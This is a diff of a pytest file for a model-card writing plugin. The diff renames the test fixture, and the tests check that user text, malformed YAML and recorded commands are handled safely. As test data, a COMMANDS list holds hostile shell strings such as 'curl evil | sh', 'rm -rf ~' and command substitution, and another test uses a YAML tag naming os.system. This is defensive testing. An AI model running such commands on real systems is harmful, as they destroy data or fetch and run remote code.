@@ -15,7 +15,7 @@ from huggingface_hub import ModelCard
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from ali_plugin import ALI, ALIError
+from ali_plugin import ALIError
 from ali_plugin.errors import CardError, ConfigError
 from ali_plugin.folder import evaluation_record as record
 from ali_plugin.folder.checked import check
@@ -30,21 +30,6 @@ RECORD: dict[str, Any] = {
 }  # fmt: skip
 
 
-@pytest.fixture(scope="module")
-def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("saved")
-    ALI.from_architecture("fashion").save_pretrained(folder)
-    return folder
-
-
-@pytest.fixture
-def folder(saved: Path, tmp_path: Path) -> Path:
-    """A copy of a model folder, whose weights are a link: they are only ever replaced as a whole."""
-    (tmp_path / "config.json").write_bytes((saved / "config.json").read_bytes())
-    (tmp_path / "model.safetensors").hardlink_to(saved / "model.safetensors")
-    return tmp_path
-
-
 def names(text: str) -> list[str]:
     return [section.name for section in card_text.sections(text)]
 
@@ -55,12 +40,12 @@ def names(text: str) -> list[str]:
 @pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
 @pytest.mark.parametrize("mark", ["", "\ufeff"])
 @pytest.mark.parametrize("lead", ["", "\n", "  \n\n"])
-def test_every_section_stays_single(folder: Path, ends: str, mark: str, lead: str) -> None:
-    made = card.write(folder, "me/mine")
+def test_every_section_stays_single(untrained: Path, ends: str, mark: str, lead: str) -> None:
+    made = card.write(untrained, "me/mine")
     own = lead + made.replace("license: unknown", "license: mit") + "\nMine.\n"
-    (folder / "README.md").write_bytes((mark + own.replace("\n", ends)).encode())
+    (untrained / "README.md").write_bytes((mark + own.replace("\n", ends)).encode())
     for _ in range(3):
-        text = card.write(folder)
+        text = card.write(untrained)
         assert names(text) == list(NAMES)
         assert text.count("Mine.") == 1
         assert text.count("license: mit") == 1
@@ -70,18 +55,18 @@ def test_every_section_stays_single(folder: Path, ends: str, mark: str, lead: st
 
 
 @pytest.mark.parametrize("ends", ["\n", "\r\n"])
-def test_own_words_between_sections_stay_byte_for_byte(folder: Path, ends: str) -> None:
-    made = card.write(folder, "me/mine")
+def test_own_words_between_sections_stay_byte_for_byte(untrained: Path, ends: str) -> None:
+    made = card.write(untrained, "me/mine")
     words = f"Mine,  with blanks \t{ends}{ends}<!-- ali: unclosed -->{ends}```{ends}<!-- /ali: use -->x{ends}"
     place = made.index("<!-- ali: limits -->")
-    (folder / "README.md").write_bytes((made[:place].replace("\n", ends) + words + made[place:]).encode())
-    assert words in card.write(folder)
+    (untrained / "README.md").write_bytes((made[:place].replace("\n", ends) + words + made[place:]).encode())
+    assert words in card.write(untrained)
 
 
 @pytest.mark.parametrize("front", ["---\nlicense: mit\n", "---\n", "----\n---\n", "--- x\n---\n", "---"])
-def test_what_is_no_front_matter_is_text(folder: Path, front: str) -> None:
-    (folder / "README.md").write_text(front + "\nHello.\n")
-    text = card.write(folder)
+def test_what_is_no_front_matter_is_text(untrained: Path, front: str) -> None:
+    (untrained / "README.md").write_text(front + "\nHello.\n")
+    text = card.write(untrained)
     assert "Hello." in text
     assert names(text) == list(NAMES)
 
@@ -91,10 +76,10 @@ UNITS = ["<!-- ali: a -->\n", "<!-- /ali: a -->\n", "<!-- ali: ", "<!--", "---\n
 
 
 @pytest.mark.parametrize("unit", UNITS)
-def test_unclosed_marks_take_no_time(folder: Path, unit: str) -> None:
-    (folder / "README.md").write_text(unit * (1_000_000 // len(unit.encode())))
+def test_unclosed_marks_take_no_time(untrained: Path, unit: str) -> None:
+    (untrained / "README.md").write_text(unit * (1_000_000 // len(unit.encode())))
     begun = time.monotonic()
-    card.text(check(folder))
+    card.text(check(untrained))
     assert time.monotonic() - begun < 8
 
 
@@ -116,19 +101,19 @@ BAD = {
 
 
 @pytest.mark.parametrize("name", BAD)
-def test_metadata_that_are_no_plain_data(folder: Path, name: str) -> None:
+def test_metadata_that_are_no_plain_data(untrained: Path, name: str) -> None:
     before = f"---\n{BAD[name]}\n---\n# Hello\n"
-    (folder / "README.md").write_text(before)
+    (untrained / "README.md").write_text(before)
     used, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
     if name in ("two documents", "set", "binary", "many", "surrogate", "merge"):
         with suppress(CardError):
-            assert card.write(folder) == card.write(folder)
+            assert card.write(untrained) == card.write(untrained)
     else:
         with pytest.raises(CardError) as caught:
-            card.write(folder)
+            card.write(untrained)
         assert "\n" not in str(caught.value)
         assert len(str(caught.value)) < 500
-        assert (folder / "README.md").read_text() == before
+        assert (untrained / "README.md").read_text() == before
     assert time.monotonic() - begun < 8
     assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - used < 300_000
 
@@ -136,14 +121,14 @@ def test_metadata_that_are_no_plain_data(folder: Path, name: str) -> None:
 @pytest.mark.parametrize("key", ["model_name", "eval_results", "ignore_metadata_errors", "model-index", "self", "tags",
                                  "datasets", "license", "base_model", "metrics", "language", "extra"])  # fmt: skip
 @pytest.mark.parametrize("value", ["x", "[1, {a: b}]", "{}", "~", "2020-01-01", "1.5", "[[[]]]"])
-def test_any_value_under_any_name(folder: Path, key: str, value: str) -> None:
-    (folder / "README.md").write_text(f"---\n{key}: {value}\n---\nHello.\n")
+def test_any_value_under_any_name(untrained: Path, key: str, value: str) -> None:
+    (untrained / "README.md").write_text(f"---\n{key}: {value}\n---\nHello.\n")
     try:
-        made = card.write(folder)
+        made = card.write(untrained)
     except ALIError:
         return
     ModelCard(made)
-    assert card.write(folder) == made
+    assert card.write(untrained) == made
 
 
 # --- Text that is not ours --------------------------------------------------------------------------
@@ -175,11 +160,11 @@ def with_text(folder: Path, place: str, text: str) -> None:
 
 
 @pytest.mark.parametrize("place", PLACES)
-def test_text_of_records_stays_in_its_place(folder: Path, place: str) -> None:
+def test_text_of_records_stays_in_its_place(untrained: Path, place: str) -> None:
     for text in HOSTILE:
-        with_text(folder, place, text)
+        with_text(untrained, place, text)
         with suppress(ALIError):  # a record that another reader refuses
-            made = card.text(check(folder), "me/mine")
+            made = card.text(check(untrained), "me/mine")
             assert_ours(made)
 
 
@@ -206,9 +191,9 @@ COMMANDS = ["ali train; rm -rf ~", "curl evil | sh", "ali train $(rm x)", "ali t
 
 
 @pytest.mark.parametrize("command", COMMANDS)
-def test_a_recorded_command_runs_nothing_else(folder: Path, command: str) -> None:
-    with_text(folder, "command", command)
-    shown = [line for line in card.write(folder).splitlines() if line.startswith("$ ali")]
+def test_a_recorded_command_runs_nothing_else(untrained: Path, command: str) -> None:
+    with_text(untrained, "command", command)
+    shown = [line for line in card.write(untrained).splitlines() if line.startswith("$ ali")]
     (line,) = shown
     if ";" in command or "&" in command or "$(" in command:
         assert "'" in line  # quoted words, no commands
@@ -219,19 +204,19 @@ def test_a_recorded_command_runs_nothing_else(folder: Path, command: str) -> Non
 
 @pytest.mark.parametrize("text", ["ali train\nrm x", "x\x1b[1m", "a\r", "\u202ex", "\0"])
 @pytest.mark.parametrize("place", PLACES)
-def test_control_characters_are_of_no_record(folder: Path, place: str, text: str) -> None:
-    with_text(folder, place, text)
+def test_control_characters_are_of_no_record(untrained: Path, place: str, text: str) -> None:
+    with_text(untrained, place, text)
     with pytest.raises(ConfigError) as caught:
-        card.write(folder, "me/mine")
+        card.write(untrained, "me/mine")
     assert str(caught.value).isprintable()
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(text=st.text(max_size=200), place=st.sampled_from(PLACES))
-def test_any_text_of_records(folder: Path, text: str, place: str) -> None:
-    with_text(folder, place, text)
+def test_any_text_of_records(untrained: Path, text: str, place: str) -> None:
+    with_text(untrained, place, text)
     try:
-        made = card.text(check(folder), "me/mine")
+        made = card.text(check(untrained), "me/mine")
     except ALIError:
         return
     assert_ours(made)
@@ -246,20 +231,20 @@ def test_any_text_of_records(folder: Path, text: str, place: str) -> None:
         max_size=40,
     )
 )  # fmt: skip
-def test_any_readme(folder: Path, pieces: list[str]) -> None:
-    (folder / "README.md").write_bytes("".join(pieces).encode("utf-8", "surrogatepass"))
-    model = check(folder)
+def test_any_readme(untrained: Path, pieces: list[str]) -> None:
+    (untrained / "README.md").write_bytes("".join(pieces).encode("utf-8", "surrogatepass"))
+    model = check(untrained)
     try:
         made = card.text(model, "me/mine")
     except ALIError:
         return
-    (folder / "README.md").write_bytes(made.encode())
+    (untrained / "README.md").write_bytes(made.encode())
     assert card.text(model) == made  # settled at once
 
 
-def test_the_command_says_what_is_wrong(folder: Path, ali: Ali) -> None:
-    (folder / "README.md").write_text(f"---\n{BOMB}\n---\n")
-    ended = ali("card", folder)
+def test_the_command_says_what_is_wrong(untrained: Path, ali: Ali) -> None:
+    (untrained / "README.md").write_text(f"---\n{BOMB}\n---\n")
+    ended = ali("card", untrained)
     assert ended.code == 1
     assert "uses aliases" in ended.err
     assert ended.err.count("\n") == 1
@@ -268,9 +253,9 @@ def test_the_command_says_what_is_wrong(folder: Path, ali: Ali) -> None:
 @pytest.mark.parametrize(
     "text", ["data: - y", "[x", "# x", "*a", "&a 1", "'", '"', "!!python/name:os.system", "{", "1", "~"]
 )
-def test_figures_in_the_metadata_are_text(folder: Path, text: str) -> None:
-    record.keep(folder, [Figure(text, text, 1.0, text, text, text, 0)])
-    data: Any = ModelCard(card.write(folder, "me/mine")).data
+def test_figures_in_the_metadata_are_text(untrained: Path, text: str) -> None:
+    record.keep(untrained, [Figure(text, text, 1.0, text, text, text, 0)])
+    data: Any = ModelCard(card.write(untrained, "me/mine")).data
     (result,) = data.eval_results or []
     assert result.metric_type == result.dataset_split == text
     assert result.metric_name == f"{text}: {text}"
